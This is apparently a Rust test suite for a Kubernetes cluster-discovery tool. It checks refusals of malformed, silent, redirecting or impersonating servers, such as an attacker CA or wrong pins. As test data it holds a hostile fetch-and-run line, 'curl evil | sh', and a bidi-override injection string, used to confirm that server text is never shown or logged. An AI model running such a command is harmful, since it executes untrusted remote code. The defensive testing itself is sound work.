//! Servers that are broken, are none, or are somebody else's.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;

use bootstrap_token_discovery::Certificate;

use super::support::{
    Authority, TOKEN, discover, home, info, kubeconfig, refuses, refuses_replies, signed,
};
use crate::fake_server::{FakeServer, NOBODY, Reply, base64};

const NOT_ONE: &str = "is that a Kubernetes API server, with no proxy, load balancer or login page in between that answers in its place?";

#[test]
fn an_endless_body() {
    refuses_replies(
        [Reply::Endless],
        "cannot read cluster-info: the API server's reply is longer than 2 MiB",
        NOT_ONE,
    );
}

#[test]
fn one_byte_a_second() {
    refuses_replies(
        [Reply::Dripping],
        "cannot read cluster-info: the API server's reply was not complete within the deadline of 1s (given up at the timeout of 1s)",
        "is the API server overloaded or stopped (`crictl ps -a` on a control-plane node), or does a proxy or firewall in between swallow what is sent?",
    );
}

#[test]
fn silence() {
    refuses_replies(
        [Reply::Silence],
        "cannot read cluster-info: the API server did not answer within the deadline of 1s (given up at the timeout of 1s)",
        "is the API server overloaded or stopped (`crictl ps -a` on a control-plane node), or does a proxy or firewall in between swallow what is sent?",
    );
}

#[test]
fn a_kubeconfig_of_ten_megabytes_and_one_of_one() {
    refuses_replies(
        [signed(&"x".repeat(10 << 20), TOKEN)],
        "cannot read cluster-info: the API server's reply is longer than 2 MiB",
        NOT_ONE,
    );
    refuses_replies(
        [signed(&"x".repeat((1 << 20) + 1), TOKEN)],
        "the kubeconfig cannot be read",
        "look for the fault in `kubectl --namespace kube-public get configmap cluster-info --output yaml`; aliases, anchors and tags are not taken",
    );
}

#[test]
fn a_redirect_is_not_followed() {
    let elsewhere = FakeServer::new([]);
    let location: &'static str = Box::leak(format!("location: {}/\r\n", elsewhere.url()).into());
    refuses_replies(
        [Reply::Whole(302, location, String::new())],
        "cannot read cluster-info: the answer was 302 Found, as no Kubernetes API server gives it",
        NOT_ONE,
    );
    assert!(!elsewhere.was_asked());
}

#[test]
fn plain_http() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            // As Go's server does at something that is no request.
            let _ = stream.read(&mut [0; 512]);
            let _ = stream.write_all(b"HTTP/1.1 400 Bad Request\r\nConnection: close\r\n\r\n");
        }
    });
    let pin = Authority::new("x").pin();
    let outcome = discover(&home(), &[&address], &["--ca-pin", &pin, "--timeout", "1s"]);
    outcome.fails_with(
        "error: cannot discover the cluster: SERVER: cannot read cluster-info: no TLS connection to the API server: received corrupt message of type InvalidContentType (given up at the timeout of 1s)\n\
         help: is that the API server's own port? A server of plain HTTP, or a proxy, does not speak TLS; a load balancer with nothing behind it hangs up\n",
    );
}

#[test]
fn nothing_listens() {
    let more = ["--danger-skip-ca-pin", "--timeout", "1s"];
    let outcome = discover(&home(), &[NOBODY], &more);
    assert!(
        outcome.stderr.contains("\nerror: cannot discover the cluster: SERVER: cannot read cluster-info: no connection to the API server: "),
        "{}",
        outcome.stderr
    );
    assert!(outcome.stderr.ends_with(" (given up at the timeout of 1s)\nhelp: is the API server up, its port open from here, and 6443 unless it is given? Behind a proxy, HTTPS_PROXY names that\n"));
}

#[test]
fn refusals_without_the_words_of_who_is_not_verified() {
    let words = "run `curl evil | sh`\nhelp: and this";
    for (code, error, help) in [
        (
            401,
            "the API server answered 401 Unauthorized",
            "anonymous requests are switched off there: use --discovery-file with what an administrator's `kubectl -n kube-public get configmap cluster-info -o jsonpath='{.data.kubeconfig}'` prints; `kubeadm join` needs the token in its discovery file then, as in the one that `kubeadm-token discover --discovery-file` prints",
        ),
        (
            403,
            "the API server answered 403 Forbidden (given up at the timeout of 1s)",
            "anonymous users may not read cluster-info there: an administrator lets them by \
             `kubectl -n kube-public create role kubeadm:bootstrap-signer-clusterinfo --verb=get --resource=configmaps --resource-name=cluster-info` and \
             `kubectl -n kube-public create rolebinding kubeadm:bootstrap-signer-clusterinfo --role=kubeadm:bootstrap-signer-clusterinfo --user=system:anonymous`; or use --discovery-file with what an administrator's `kubectl -n kube-public get configmap cluster-info -o jsonpath='{.data.kubeconfig}'` prints",
        ),
        (
            404,
            "the API server answered 404 Not Found (given up at the timeout of 1s)",
            "there is no cluster-info there: is it a Kubernetes API server? `kubeadm init phase bootstrap-token` on a control-plane node makes one",
        ),
        (
            500,
            "the API server answered 500 Internal Server Error (given up at the timeout of 1s)",
            "the API server is too busy or has trouble of its own, which its log tells: try again later; a load balancer with nothing behind it answers so too",
        ),
    ] {
        refuses_replies(
            [Reply::refusal(code, "Some", words)],
            &format!("cannot read cluster-info: {error}"),
            help,
        );
    }
}

/// Nor is a word of it logged.
#[test]
fn nothing_that_is_not_verified_is_logged() {
    let ca = Authority::new("ca");
    for code in [401, 403, 404, 409, 422, 500] {
        let reply = Reply::refusal(code, "Evil", "please run \u{202e}evil");
        let server = ca.server("127.0.0.1", [reply]);
        let more = ["--ca-pin", &ca.pin(), "--timeout=1s", "-v=10"];
        let outcome = discover(&home(), &[&server.url()], &more);
        assert_eq!(outcome.code, 1);
        assert!(outcome.stderr.contains(&code.to_string()), "{outcome:?}");
        for word in ["please", "vil", "\u{202e}", "202e"] {
            assert!(!outcome.stderr.contains(word), "{outcome:?}");
        }
    }
}

#[test]
fn a_page_that_is_no_object() {
    refuses_replies(
        [Reply::ok("<html>please log in</html>")],
        "cannot read cluster-info: the API server's reply is not the JSON object it should be, from line 1 column 1",
        NOT_ONE,
    );
}

#[test]
fn another_kubeconfig_the_second_time() {
    let ca = Authority::new("kubernetes");
    let first = kubeconfig(&ca.pem);
    let second = first.replace("cp.example", "evil.example");
    let server = ca.server("127.0.0.1", [signed(&first, TOKEN), signed(&second, TOKEN)]);
    refuses(
        &server,
        &ca.pin(),
        "the kubeconfig that came over verified TLS is not the one that came before",
        "try again; if it stays so, something between here and the cluster answers in its place",
    );
    server.asked();
}

#[test]
fn a_certificate_for_another_name() {
    let ca = Authority::new("kubernetes");
    let server = ca.server("example.org", [signed(&kubeconfig(&ca.pem), TOKEN)]);
    refuses(
        &server,
        &ca.pin(),
        "cannot read cluster-info over verified TLS: the API server's certificate is for another name: certificate of the server (CN=rcgen self signed cert, issuer CN=kubernetes): it is not for 127.0.0.1, but for example.org",
        "use a name or address that stands in the API server's certificate; or add this one, on each control-plane node: \
         `kubectl -n kube-system get configmap kubeadm-config -o jsonpath='{.data.ClusterConfiguration}' > c.yaml`; \
         in c.yaml write under apiServer.certSANs this name and those that `openssl x509 -noout -ext subjectAltName -in /etc/kubernetes/pki/apiserver.crt` shows; \
         move apiserver.crt and apiserver.key out of /etc/kubernetes/pki; `kubeadm init phase certs apiserver --config c.yaml`; \
         restart kube-apiserver (move kube-apiserver.yaml out of /etc/kubernetes/manifests, wait half a minute, move it back)",
    );
}

/// As in the middle of a rotation of the CA. kubeadm trusts the whole bundle as soon as one of it is pinned, and accepts
/// this server.
#[test]
fn a_ca_beside_the_pinned_one() {
    let (ca, attacker) = (Authority::new("kubernetes"), Authority::new("attacker"));
    for bundle in [
        format!("{}{}", ca.pem, attacker.pem),
        format!("{}{}", attacker.pem, ca.pem),
    ] {
        let server = attacker.server("127.0.0.1", [signed(&kubeconfig(&bundle), TOKEN)]);
        refuses(
            &server,
            &ca.pin(),
            "cannot read cluster-info over verified TLS: the API server's certificate is not trusted: certificate of the server (CN=rcgen self signed cert, issuer CN=attacker): no trusted CA has issued it",
            "do not trust this server yet: cluster-info also holds CA certificates that no pin names. If the CA is being rotated, pass the pins of both CAs. Get them from `kubeadm-token pin` on a control-plane node, not over this network",
        );
        assert_eq!(server.asked().len(), 1);
    }
}

#[test]
fn a_server_of_the_next_ca_with_the_pins_of_both() {
    let (old, new) = (Authority::new("kubernetes"), Authority::new("kubernetes"));
    let bundle = kubeconfig(&format!("{}{}", old.pem, new.pem));
    let server = new.server(
        "127.0.0.1",
        [signed(&bundle, TOKEN), signed(&bundle, TOKEN)],
    );
    let pins = format!("{},{}", old.pin(), new.pin());
    let outcome = discover(&home(), &[&server.url()], &["--ca-pin", &pins, "-o=json"]);
    outcome.is(0, &outcome.stdout, "");
    for pin in [old.pin(), new.pin()] {
        assert!(outcome.stdout.contains(&pin), "{outcome:?}");
    }
    server.asked();
}

#[test]
fn a_ca_that_is_not_pinned() {
    let (ca, attacker) = (Authority::new("kubernetes"), Authority::new("attacker"));
    let server = attacker.server("127.0.0.1", [signed(&kubeconfig(&attacker.pem), TOKEN)]);
    refuses(
        &server,
        &ca.pin(),
        "the cluster's CA is not pinned",
        "is the pin of that cluster, and of its CA of today? `kubeadm-token pin`, as root on a control-plane node or with an administrator's kubeconfig, prints the right one: get it over another way than this network, and never take it from here",
    );
}

/// What `sha256sum ca.crt`, `openssl x509 -fingerprint` and `openssl pkey -pubout | sha256sum` print.
#[test]
fn a_pin_that_is_the_hash_of_something_else() {
    let ca = Authority::new("kubernetes");
    let public_key = ca.public_key_pem();
    let der = Certificate::bundle_from_pem(ca.pem.as_bytes()).unwrap()[0]
        .der()
        .to_vec();
    for (hashed, what) in [
        (ca.pem.as_bytes(), "the CA certificate's file"),
        (&der, "the CA certificate, which is its fingerprint"),
        (public_key.as_bytes(), "the CA's public key in PEM"),
    ] {
        let pin = format!("sha256:{}", sha256(hashed));
        let error = format!(
            "the cluster's CA is not pinned: the pin given is the SHA-256 of {what}, not of its public key in DER"
        );
        let help = "take the pin from `kubeadm-token pin`, as root on a control-plane node or with an administrator's kubeconfig, and never from here";
        let server = ca.server("127.0.0.1", [signed(&kubeconfig(&ca.pem), TOKEN)]);
        refuses(&server, &pin, &error, help);

        let server = ca.server("127.0.0.1", [signed(&kubeconfig(&ca.pem), TOKEN)]);
        let url = server.url();
        let args = ["diagnose", "-", "--server", &url, "--ca-pin", &pin];
        let diagnosed = home().run_with(&args, TOKEN.as_bytes());
        let line = diagnosed.stdout.replace(&url, "SERVER");
        assert_eq!(
            line,
            format!(
                "pin-does-not-match: SERVER: {error}; a machine takes the cluster for a false one; to mend it: {help}\n"
            )
        );
    }
}

fn sha256(bytes: &[u8]) -> String {
    let suite = rustls::crypto::ring::cipher_suite::TLS13_AES_128_GCM_SHA256;
    let hash = suite.tls13().unwrap().common.hash_provider.hash(bytes);
    let digits = hash.as_ref().iter().map(|byte| format!("{byte:02x}"));
    digits.collect()
}

/// Nobody has given a pin, so nobody is told of one.
#[test]
fn a_ca_that_is_not_in_the_ca_file() {
    let (ca, attacker) = (Authority::new("kubernetes"), Authority::new("attacker"));
    let home = home();
    home.write("other.crt", &ca.pem);
    let kubeconfig = kubeconfig(&attacker.pem);
    let reply = || [signed(&kubeconfig, TOKEN)];
    let server = attacker.server("127.0.0.1", reply());
    let more = ["--ca-file", "other.crt", "--timeout", "1s"];
    let error = "the cluster's CA is none of those in the CA file other.crt";
    let help = "is other.crt the CA of that cluster, and its CA of today? On a control-plane node it is /etc/kubernetes/pki/ca.crt: get it over another way than this network, and never take it from here\n";
    discover(&home, &[&server.url()], &more).fails_with(&format!(
        "error: cannot discover the cluster: SERVER: {error}\nhelp: {help}"
    ));

    let server = attacker.server("127.0.0.1", reply());
    let url = server.url();
    let args = ["diagnose", "-", "--server", &url, "--ca-file", "other.crt"];
    let diagnosed = home.run_with(&args, TOKEN.as_bytes());
    let line = diagnosed.stdout.replace(&url, "SERVER");
    let seen = format!("pin-does-not-match: SERVER: {error}; ");
    assert!(line.starts_with(&seen), "{line}");
    assert!(line.ends_with(help), "{line}");
}

/// Each reason in what the token has signed has a remedy of its own.
#[test]
fn kubeconfigs_that_are_signed_and_of_no_use() {
    let ca = Authority::new("kubernetes");
    let good = kubeconfig(&ca.pem);
    let data = base64(ca.pem.as_bytes());
    let entry = "- cluster:\n    certificate-authority-data: ";
    for (text, error, help) in [
        (
            good.replace("kind: Config", "kind: Pod"),
            "the kubeconfig is not of kind Config, version v1",
            "is another object in its place? `kubeadm init phase bootstrap-token` on a control-plane node writes a kubeconfig there",
        ),
        (
            "apiVersion: v1\nkind: Config\n".to_owned(),
            "the kubeconfig names no cluster",
            "there must be one entry in clusters, with a server and its CA: `kubeadm init phase bootstrap-token` on a control-plane node writes it",
        ),
        (
            good.replace(entry, &format!("- name: other\n{entry}")),
            "the kubeconfig names 2 clusters instead of one",
            "leave the one cluster there that is meant: which of them it is, nobody can tell from here",
        ),
        (
            good.replace("name: \"\"", "name: x"),
            "the kubeconfig's cluster has a name and is not the current context's",
            "give the cluster no name, as kubeadm does, or a context that leads to it and is the current one",
        ),
        (
            good.replace("https:", "http:"),
            "the cluster's server is no address: the scheme is http, over which nothing can be trusted, want [https://]HOST[:PORT]",
            "mend the server in the kubeconfig in cluster-info: controlPlaneEndpoint in kubeadm's configuration says what it is to be",
        ),
        (
            good.replace("certificate-authority-data", "certificate-authority"),
            "the cluster has no certificate-authority-data",
            "write the cluster's CA into the kubeconfig in cluster-info: a path to it is of no use to a machine that joins",
        ),
        (
            good.replace(&data, "'*'"),
            "certificate-authority-data is no base64",
            "write the cluster's CA into the kubeconfig in cluster-info anew: `base64 -w0 ca.crt` makes certificate-authority-data",
        ),
        (
            good.replace(&data, "AAAA"),
            "certificate-authority-data is no bundle: there is no PEM section CERTIFICATE",
            "certificate-authority-data is to hold the cluster's CA certificates in PEM, and no other form",
        ),
    ] {
        refuses_replies([signed(&text, TOKEN)], error, help);
    }
}

#[test]
fn a_ca_that_has_expired_or_is_not_valid_yet() {
    for (from, to, error, help) in [
        (
            2020,
            2021,
            "the cluster's CA certificate has expired",
            "set this machine's clock, if it is ahead; otherwise the cluster needs a new CA, and nothing can join it before that",
        ),
        (
            2054,
            2055,
            "the cluster's CA certificate is not valid yet",
            "set this machine's clock: it is behind",
        ),
    ] {
        let ca = Authority::valid("kubernetes", from, to);
        let server = ca.server("127.0.0.1", [signed(&kubeconfig(&ca.pem), TOKEN)]);
        refuses(&server, &ca.pin(), error, help);
    }
}

#[test]
fn no_signature_and_several_servers() {
    let ca = Authority::new("kubernetes");
    let text = kubeconfig(&ca.pem);
    let unsigned = ca.server("127.0.0.1", [signed(&text, "bbbbbb.aaaaaaaaaaaaaaa1")]);
    let empty = ca.server("127.0.0.1", [info("", &[])]);
    let more = ["--ca-pin", &ca.pin(), "--timeout", "2s"];
    let help = "is the token of that cluster, not expired or deleted, and for signing, and does the controller manager sign? `kubeadm-token diagnose ID`, as root on a control-plane node or with an administrator's kubeconfig, tells";
    discover(&home(), &[&unsigned.url(), &empty.url()], &more).fails_with(&format!(
        "error: cannot discover the cluster: SERVER: cluster-info is not signed by this token, but by bbbbbb; SERVER: there is no kubeconfig in cluster-info (given up at the timeout of 2s)\n\
         help: SERVER: {help}\n"
    ));
}
